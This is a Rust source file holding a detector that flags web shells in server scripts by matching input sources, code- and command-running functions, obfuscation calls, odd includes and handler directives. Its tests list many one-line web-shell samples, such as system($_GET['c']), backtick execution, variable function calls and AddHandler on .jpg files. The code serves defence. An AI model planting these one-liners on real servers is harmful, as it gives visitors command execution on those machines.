//! What in a script of a web server gives a visitor the server's hands. Pure.

/// What a visitor sends, in lower case.
const SENT: [&str; 19] = [
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "filter_input(",
    "filter_input_array(",
    "$_files",
    "$_server['http_",
    "$_server[\"http_",
    "$_server['query_",
    "$_server[\"query_",
    "getallheaders(",
    "php://input",
    "getparameter",
    "getheader",
    "request[",
    "request.",
    "query_string",
    "cgi.fieldstorage",
];

/// What in a script gives a visitor the server's hands. What looks like a comment may be one, or begin within a text.
pub(super) fn suspicion(text: &str) -> Option<&'static str> {
    of_plain(&plain(text)).or_else(|| text.contains("/*").then(|| of_plain(&plain(&uncommented(text)))).flatten())
}

fn of_plain(text: &str) -> Option<&'static str> {
    const RUNS: [(&str, &str); 20] = [
        ("eval(", "runs code that is sent to it (eval)"),
        ("assert(", "runs code that is sent to it (assert)"),
        ("create_function(", "runs code that is sent to it (create_function)"),
        ("shell_exec(", "runs commands that are sent to it (shell_exec)"),
        ("passthru(", "runs commands that are sent to it (passthru)"),
        ("proc_open(", "runs commands that are sent to it (proc_open)"),
        ("pcntl_exec(", "runs commands that are sent to it (pcntl_exec)"),
        ("popen(", "runs commands that are sent to it (popen)"),
        ("system(", "runs commands that are sent to it (system)"),
        ("exec(", "runs commands that are sent to it (exec)"),
        ("call_user_func", "runs functions that are sent to it (call_user_func)"),
        ("reflectionfunction(", "runs functions that are sent to it (ReflectionFunction)"),
        ("array_map($_", "runs functions that are sent to it (array_map)"),
        ("getruntime(", "runs commands that are sent to it (getRuntime)"),
        ("processbuilder(", "runs commands that are sent to it (ProcessBuilder)"),
        ("process.start(", "runs commands that are sent to it (Process.Start)"),
        ("wscript.shell", "runs commands that are sent to it (WScript.Shell)"),
        ("subprocess.", "runs commands that are sent to it (subprocess)"),
        ("move_uploaded_file(", "keeps files that are sent to it (move_uploaded_file)"),
        ("classloader", "loads classes that are sent to it (ClassLoader)"),
    ];
    const HIDES: [&str; 7] =
        ["base64_decode(", "gzinflate(", "gzuncompress(", "str_rot13(", "hex2bin(", "convert_uudecode(", "strrev("];
    if text.contains("auto_prepend_file") || text.contains("auto_append_file") {
        return Some("runs code before every page (auto_prepend_file)");
    }
    if text.contains("addhandler") || text.contains("addtype application/x-httpd") || text.contains("sethandler") {
        return Some("makes other files scripts (AddHandler)");
    }
    let evaluates = ["eval(", "create_function(", "assert("].iter().any(|way| has_call(text, way));
    if HIDES.iter().any(|way| text.contains(way)) && evaluates {
        return Some("runs code that is hidden in it (eval)");
    }
    if evaluates && ["http:", "https:", "ftp:"].iter().any(|from| FETCHES.iter().any(|way| fetches(text, way, from))) {
        return Some("runs code that it fetches from elsewhere (eval)");
    }
    if included(text).any(is_odd) {
        return Some("runs a file from where none belong (include)");
    }
    // `$$a` is the variable that another one names.
    if text.contains("$$") && text.contains("](") {
        return Some("runs functions whose names are hidden in it");
    }
    if !SENT.iter().any(|sent| text.contains(sent)) {
        return None;
    }
    let writes = WRITES.iter().any(|way| has_call(text, way));
    if writes {
        return Some("writes files that are sent to it (file_put_contents)");
    }
    if (text.contains("extract($_") || text.contains("parse_str($_")) && calls_variable(text) {
        return Some("runs functions that are sent to it (extract)");
    }
    if each_sent(text).any(|name| text.contains(&format!("{name}("))) {
        return Some("runs functions that are sent to it (foreach)");
    }
    if CALLBACKS.iter().any(|way| calls_back(text, way)) {
        return Some("runs functions that are sent to it (callback)");
    }
    let known = RUNS.iter().find(|(what, _)| has_call(text, what)).map(|(_, why)| *why);
    let by_place = || {
        let mut sent = SENT.iter().take(6).flat_map(|sent| text.match_indices(sent)).filter_map(|(at, _)| text.get(..at));
        sent.find_map(in_front)
    };
    let in_backticks = || {
        let mut pieces = text.split('`').skip(1).step_by(2);
        pieces.any(|piece| piece.contains("$_")).then_some("runs commands that are sent to it (backticks)")
    };
    known.or_else(by_place).or_else(in_backticks)
}

/// Functions that fetch.
const FETCHES: [&str; 3] = ["file_get_contents(", "curl_init(", "fopen("];
/// Functions that write, where a visitor says.
const WRITES: [&str; 4] = ["file_put_contents($_", "fwrite(fopen($_", "fputs(fopen($_", "copy($_"];
/// Functions that call the function that they are given behind what they are to call it with, or in front of it.
const CALLBACKS: [&str; 10] = [
    "array_filter(",
    "array_map(",
    "array_walk(",
    "array_reduce(",
    "usort(",
    "uasort(",
    "uksort(",
    "preg_replace_callback(",
    "register_shutdown_function(",
    "iterator_apply(",
];
/// Functions that nobody gives to these but to run what is sent.
const DANGEROUS: [&str; 7] = ["system", "exec", "passthru", "assert", "popen", "eval", "proc_open"];

/// Whether a function fetches by such an address, written where it is called.
fn fetches(text: &str, way: &str, from: &str) -> bool {
    let mut called = text.match_indices(way).filter_map(|(at, _)| text.get(at + way.len()..));
    called.any(|rest| rest.trim_start_matches(['"', '\'']).starts_with(from))
}

/// The texts that are included as files.
fn included(text: &str) -> impl Iterator<Item = &str> {
    ["include", "require"].into_iter().flat_map(move |way| {
        text.match_indices(way).filter_map(move |(at, _)| {
            let before = text.get(..at)?.chars().next_back();
            let rest = text.get(at + way.len()..)?;
            let rest = rest.strip_prefix("_once").unwrap_or(rest).trim_start_matches(['(', ' ', '\t']);
            let mark = rest.chars().next().filter(|mark| matches!(mark, '"' | '\''))?;
            let is_word = before.is_none_or(|letter| !letter.is_ascii_alphanumeric() && letter != '_');
            rest.get(1..)?.split(mark).next().filter(|_| is_word)
        })
    })
}

/// Whether no part of a site is included from there.
fn is_odd(file: &str) -> bool {
    const FROM: [&str; 10] =
        ["/tmp/", "/var/tmp/", "/dev/shm/", "/proc/", "http:", "https:", "ftp:", "data:", "php://", "expect:"];
    const PICTURES: [&str; 6] = [".png", ".jpg", ".jpeg", ".gif", ".ico", ".svg"];
    FROM.iter().any(|from| file.starts_with(from)) || PICTURES.iter().any(|end| file.ends_with(end))
}

/// Whether a variable's content is called.
fn calls_variable(text: &str) -> bool {
    text.match_indices('(').filter_map(|(at, _)| text.get(..at)).any(|before| {
        let word = before.trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || letter == '_');
        word.len() < before.len() && word.ends_with('$')
    })
}

/// The variables to which a loop gives what is sent.
fn each_sent(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("foreach($_")
        .filter_map(|(at, _)| text.get(at..)?.split(')').next()?.split_once(" as "))
        .flat_map(|(_, names)| names.split("=>").map(str::trim).filter(|name| name.starts_with('$') && name.len() > 1))
}

/// Whether such a function is given what is sent, and a function that is sent too, is put together, or runs commands.
fn calls_back(text: &str, way: &str) -> bool {
    text.match_indices(way).filter_map(|(at, _)| text.get(at + way.len()..)).any(|rest| {
        let end = rest.find([';', '\n']).unwrap_or(rest.len());
        let given = rest.get(..end).unwrap_or_default();
        let is_function = |one: &str| {
            let one = one.trim();
            let bare = one.trim_matches(['"', '\'', ')', ' ']);
            let is_text = one.starts_with(['"', '\'']);
            let is_made = one.contains("\".\"") || one.contains("'.'") || DANGEROUS.contains(&bare);
            (is_text && is_made) || one.starts_with("$_")
        };
        let parts: Vec<&str> = given.split(',').collect();
        let sent = parts.iter().filter(|part| part.trim().starts_with("$_")).count();
        sent > 0
            && parts.len() > 1
            && (sent > 1 || parts.iter().any(|part| !part.trim().starts_with("$_") && is_function(part)))
    })
}

/// What a script does with something that is sent, by what stands in front of it.
fn in_front(before: &str) -> Option<&'static str> {
    const INCLUDES: [&str; 4] = ["include", "include_once", "require", "require_once"];
    let bare = before.trim_end_matches(['(', ' ', '\'', '"', '@']);
    if INCLUDES.iter().any(|way| bare.ends_with(way)) {
        return Some("runs files that are named to it (include)");
    }
    let called = before.strip_suffix('(')?;
    let word = called.trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || letter == '_');
    let is_variable = word.len() < called.len() && word.ends_with('$');
    (is_variable || called.ends_with([']', '}', '\'', '"', ')'])).then_some("runs functions that are sent to it")
}

/// Whether a function is called that is no part of another name and no method.
fn has_call(text: &str, name: &str) -> bool {
    text.match_indices(name).any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let is_part = before.ends_with(|letter: char| letter.is_ascii_alphanumeric() || letter == '_');
        !is_part && !before.ends_with("->") && !before.ends_with("::")
    })
}

/// A script without its comments between signs.
fn uncommented(text: &str) -> String {
    let mut bare = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once("/*") {
        bare.push_str(before);
        let Some((_, behind)) = behind.split_once("*/") else {
            rest = "";
            break;
        };
        rest = behind;
    }
    bare.push_str(rest);
    bare
}

/// A script in lower case and without blanks around the brackets of a call: however it is written, it is the same.
fn plain(text: &str) -> String {
    let mut tight = String::with_capacity(text.len());
    for letter in text.chars().map(|letter| letter.to_ascii_lowercase()) {
        if matches!(letter, '(' | '[') {
            tight.truncate(tight.trim_end().len());
        }
        if !(letter.is_whitespace() && tight.ends_with(['(', '['])) {
            tight.push(letter);
        }
    }
    tight
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_serve_a_visitor_stand_out() {
        for text in [
            "<?php system($_GET['c']); ?>",
            "<?php eval(base64_decode('eA==')); ?>",
            "php_value auto_prepend_file /tmp/x",
            "<% Runtime.getRuntime().exec(request.getParameter(\"c\")) %>",
            "<?=`$_GET[0]`?>",
            "<?php $_GET[0]($_GET[1]);",
            "<?php SYSTEM($_GET[0]);",
            "<?php @include($_GET[0]);",
            "<?php include $_GET['p'];",
            "<?php require_once ( $_REQUEST [ 'p' ] );",
            "<?php system($_SERVER[\"HTTP_X\"]);",
            "<?php system ($_GET[0]);",
            "<?php system/* x */($_GET[0]);",
            "<?php header('image/*'); system($_GET[0]); /* x */",
            "<?php $f = 'sys' . 'tem'; $f($_POST['x']);",
            "<?php ('sys'.'tem')($_POST['x']);",
            "<?php call_user_func($_GET['a'], $_GET['b']);",
            "<?php extract($_REQUEST);$a($b);",
            "<?php $k=strrev(\"tressa\");$k(filter_input(INPUT_POST,\"z\"));",
            "<?php include \"/tmp/.x\";",
            "<?php require_once('logo.png');",
            "<?php eval(file_get_contents(\"http://x/y\"));",
            "<?php foreach($_POST as $k=>$v)$k($v);",
            "<?php $g='_GE'.'T';($$g)[0]($$g[1]);",
            "<?php array_filter($_GET,\"sys\".\"tem\");",
            "<?php usort($_GET,\"assert\");",
            "<?php array_map('system', $_GET);",
            "<?php preg_replace_callback(\"/.*/\",$_SERVER[\"HTTP_X\"],$_COOKIE[\"y\"]);",
            "<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['a']);",
            "<?php file_put_contents($_GET[\"f\"],$_POST[\"d\"]);",
            "<?php $x=str_rot13(gzinflate(base64_decode('A')));$y=create_function('',$x);$y();",
            "AddHandler application/x-httpd-php .jpg",
            "import subprocess, cgi\nsubprocess.run(cgi.FieldStorage()['c'].value, shell=True)",
        ] {
            assert!(suspicion(text).is_some(), "{text}");
        }
        for text in [
            "<?php echo htmlspecialchars($_GET['q']); ?>",
            "<?php system('ls'); ?>",
            "<?php $r = curl_exec($c); echo $_GET['q'];",
            "<?php $db->exec($sql); f($_POST['x']); $o->g($_POST['y']);",
            "<?php include $_SERVER['DOCUMENT_ROOT'] . '/head.php'; echo `date`;",
            "<?php $ids = array_filter($_GET['ids']); $n = array_map('intval', $_POST['n']); foreach ($_POST as $k => $v) { f($k); }",
            "<?php include 'head.php'; require_once __DIR__ . '/a.php'; extract($_GET); echo file_get_contents('http://x');",
            "<?php file_put_contents('log.txt', $_GET['q']); usort($rows, 'by_name');",
            "/* open <?php echo 1;",
        ] {
            assert_eq!(suspicion(text), None, "{text}");
        }
    }
}
